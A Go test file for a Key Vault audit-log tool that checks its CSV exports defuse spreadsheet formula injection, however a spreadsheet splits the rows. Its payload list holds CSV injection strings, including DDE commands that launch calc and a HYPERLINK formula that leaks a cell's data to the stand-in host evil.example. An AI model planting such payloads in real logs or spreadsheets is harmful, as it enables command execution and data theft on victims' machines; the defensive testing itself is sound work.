package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// The CSV kvaudit writes is read by spreadsheets, which read a cell part
// that starts with = + - @, a tab or a carriage return as a formula
// (OWASP, CSV injection). Excel splits a .csv on the system's list
// separator — ";" in much of Europe — so a part is whatever a splitter
// makes of a row, not only the cell encoding/csv wrote.

// sheetSeparators are the separators a spreadsheet may split a .csv on.
var sheetSeparators = []rune{',', ';', '\t'}

// sheetParts is every part a spreadsheet may make of text: for each
// separator, split by a naive splitter (lines at CR or LF, then at the
// separator, quotes kept as text) and by a quote-aware one (encoding/csv
// with that separator and lazy quotes, as spreadsheets forgive a stray
// quote).
func sheetParts(t testing.TB, text string) []string {
	t.Helper()
	var parts []string
	for _, sep := range sheetSeparators {
		for _, line := range strings.FieldsFunc(text, func(r rune) bool { return r == '\n' || r == '\r' }) {
			parts = append(parts, strings.Split(line, string(sep))...)
		}
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("split on %q honouring quotes: %v\n%s", sep, err, text)
		}
		for _, row := range rows {
			parts = append(parts, row...)
		}
	}
	return parts
}

// startsFormula reports whether a spreadsheet would read part as a
// formula: after the spaces and quotes a splitter may leave before it, one
// of = + - @, tab or carriage return.
func startsFormula(part string) bool {
	p := strings.TrimLeft(part, ` "`)
	return p != "" && strings.ContainsRune("=+-@\t\r", rune(p[0]))
}

// checkSheetSafe fails t for every part of text that starts a formula.
func checkSheetSafe(t testing.TB, what, text string) {
	t.Helper()
	bad := 0
	for _, p := range sheetParts(t, text) {
		if startsFormula(p) {
			if bad++; bad <= 5 {
				t.Errorf("%s: a spreadsheet finds the formula %q", what, p)
			}
		}
	}
	if bad > 5 {
		t.Errorf("%s: … %d formulas in all", what, bad)
	}
}

// csvPayloads are values an attacker can put in a logged field (a
// User-Agent, an object name in a request URI, a UPN) to make a spreadsheet
// run a formula, the ways a splitter might find it.
var csvPayloads = []string{
	`Mozilla/5.0 (X11; Linux x86_64) =1`,
	`a,b;c` + "\t" + `d`, // separators without a formula: left alone
	`=cmd|' /C calc'!A0`,
	`x,=HYPERLINK("https://evil.example/")`,
	"x\t=1+1",
	"x\r=1+1",
	"x\n=1+1",
	"x\r\n@SUM(1)",
	`x; =1+1`,
	`x;"=1+1"`,
	`x;""=1+1`,
	`x"";+1+1`,
	`x" ;-1+cmd|' /C calc'!A0`,
	`x;;@SUM(1)`,
	"\t=1+1",
	"\r=1+1",
	` =1+1`,
	`"=1+1"`,
	`+1`, `-1`, `@x`, `-`, `=`,
	hyperlink, // last: the newest records of the API test
}

// hyperlink is the example: a live link in a ";" spreadsheet.
const hyperlink = `x;=HYPERLINK("https://evil.example/?d="&A1;"open")`

// Every payload, alone or between other cells, is safe however a
// spreadsheet splits the row; a value without a formula start is left as
// it is; the CSV stays RFC 4180 and cell only ever adds quotes ('), so
// nothing of the value is lost.
func TestCellDefusesEveryPart(t *testing.T) {
	for _, s := range csvPayloads {
		var buf bytes.Buffer
		w := newSheetCSV(&buf)
		if err := w.write([]string{s, "ok", s}); err != nil {
			t.Fatal(err)
		}
		if err := w.flush(); err != nil {
			t.Fatal(err)
		}
		checkSheetSafe(t, fmt.Sprintf("%q", s), buf.String())
		rows, err := csv.NewReader(&buf).ReadAll()
		// encoding/csv reads \r\n inside a quoted cell as \n: compare so.
		if err != nil || len(rows) != 1 || len(rows[0]) != 3 || rows[0][0] != strings.ReplaceAll(cell(s), "\r\n", "\n") {
			t.Errorf("%q: not read back as RFC 4180: %v %q", s, err, rows)
		}
		if got := strings.ReplaceAll(cell(s), "'", ""); got != strings.ReplaceAll(s, "'", "") {
			t.Errorf("cell(%q) = %q changes more than quotes", s, cell(s))
		}
	}
	for _, tt := range []struct{ in, want string }{
		{`=1+1`, `'=1+1`},
		{`x;=1`, `x;'=1`},
		{`x; "=1"`, `x; "'=1"`},
		{"\t=1", "'\t'=1"},
		{`-`, `'-`},
		{`2026-11-20T10:00:00.0000000Z`, `2026-11-20T10:00:00.0000000Z`},
		{`alice@contoso.com`, `alice@contoso.com`},
		{`a-b;c+d,e@f`, `a-b;c+d,e@f`},
		{`{"a":[1,-2],"b":"x;=1"}`, `{"a":[1,'-2],"b":"x;'=1"}`},
		{`é;=1`, `é;'=1`},
	} {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// For any value, written between others: no part a spreadsheet makes of
// the row starts a formula, the row reads back as RFC 4180, and only
// quotes (') were added.
func FuzzCell(f *testing.F) {
	for _, s := range csvPayloads {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		w := newSheetCSV(&buf)
		_ = w.write([]string{"a", s, s})
		if err := w.flush(); err != nil {
			t.Fatal(err)
		}
		checkSheetSafe(t, fmt.Sprintf("%q", s), buf.String())
		r := csv.NewReader(bytes.NewReader(buf.Bytes()))
		rows, err := r.ReadAll()
		// encoding/csv reads \r\n inside a quoted cell as \n: compare so.
		want := strings.ReplaceAll(cell(s), "\r\n", "\n")
		if err != nil || len(rows) != 1 || len(rows[0]) != 3 || rows[0][1] != want {
			t.Fatalf("%q: read back %v %q", s, err, rows)
		}
		if strings.ReplaceAll(cell(s), "'", "") != strings.ReplaceAll(s, "'", "") {
			t.Fatalf("cell(%q) = %q changes more than quotes", s, cell(s))
		}
	})
}

// csvRecord is one audit record whose caller-chosen fields (User-Agent,
// UPN, object name, result description) all hold payload.
func csvRecord(t *testing.T, vault string, at time.Time, i int, payload string) []byte {
	t.Helper()
	rec := map[string]any{
		"time":              at.Format("2006-01-02T15:04:05.0000000Z"),
		"resourceId":        "/SUBSCRIPTIONS/0000-SUB/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/" + strings.ToUpper(vault),
		"operationName":     "SecretGet",
		"category":          "AuditEvent",
		"resultType":        "Success",
		"resultSignature":   "OK",
		"resultDescription": payload,
		"durationMs":        "12",
		"callerIpAddress":   "10.7.0.1",
		"correlationId":     fmt.Sprintf("csv-%03d", i),
		"identity":          map[string]any{"claim": map[string]any{"upn": payload}},
		"properties": map[string]any{
			"id":             "https://" + vault + ".vault.azure.net/secrets/" + url.PathEscape(payload) + "/1",
			"clientInfo":     payload,
			"httpStatusCode": 200,
		},
	}
	b, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	return append(b, '\n')
}

// Records whose User-Agent, UPN, object name and result description are
// formula payloads, indexed through the BlobTrigger into Azurite: every
// CSV the API and handler query -o csv write of them — events, stats by
// caller and by object, detections — is safe however a spreadsheet splits
// it, with "," or ";" (or tab) as the separator, honouring quotes or not.
func TestCSVInjectionThroughTheAPI(t *testing.T) {
	ta := newTestApp(t, nil)
	day := time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Hour)
	var blob []byte
	for i, p := range csvPayloads {
		// Each payload read 3 times: above the detections' threshold of 2.
		for k := 0; k < 3; k++ {
			blob = append(blob, csvRecord(t, "csvvault", day.Add(time.Duration(3*i+k)*time.Second), 3*i+k, p)...)
		}
	}
	name := hourBlob("csvvault", day)
	ta.put(name, blob)
	if status, resp := ta.invoke(name, blob, true, false); status != http.StatusOK {
		t.Fatalf("BlobTrigger: %d %q", status, resp.Logs)
	}
	window := "&from=" + day.Format(time.RFC3339) + "&to=" + day.Add(time.Hour).Format(time.RFC3339)
	for _, path := range []string{
		"/api/audit/events?vault=csvvault&format=csv&limit=1000",
		"/api/audit/events?vault=csvvault&format=csv&limit=5", // with its #continuation= line
		"/api/audit/stats?vault=csvvault&by=caller&format=csv",
		"/api/audit/stats?vault=csvvault&by=object&format=csv",
		"/api/audit/stats?caller=" + url.QueryEscape(hyperlink) + "&by=object&format=csv",
		"/api/audit/detections?vault=csvvault&threshold=2&format=csv",
	} {
		resp, body := ta.do("GET", path+window, nil)
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != contentTypes["csv"] {
			t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
		}
		if !bytes.Contains(bytes.ToLower(body), []byte("=hyperlink(")) {
			t.Fatalf("%s: the payload is not in the answer:\n%s", path, body)
		}
		checkSheetSafe(t, path, string(body))
	}
	from, to := day.Format(time.RFC3339), day.Add(time.Hour).Format(time.RFC3339)
	for _, args := range [][]string{
		{"query", "events", "-vault", "csvvault", "-all", "-limit", "7", "-o", "csv"},
		{"query", "stats", "-vault", "csvvault", "-by", "caller", "-o", "csv"},
		{"query", "detections", "-vault", "csvvault", "-threshold", "2", "-o", "csv"},
	} {
		code, out, errs := ta.runCLI(append(args, "-from", from, "-to", to)...)
		if code != 0 || !strings.Contains(strings.ToLower(out), "=hyperlink(") {
			t.Fatalf("handler %s: exit %d\n%s\n%s", strings.Join(args, " "), code, out, errs)
		}
		checkSheetSafe(t, "handler "+strings.Join(args, " "), out)
	}
}
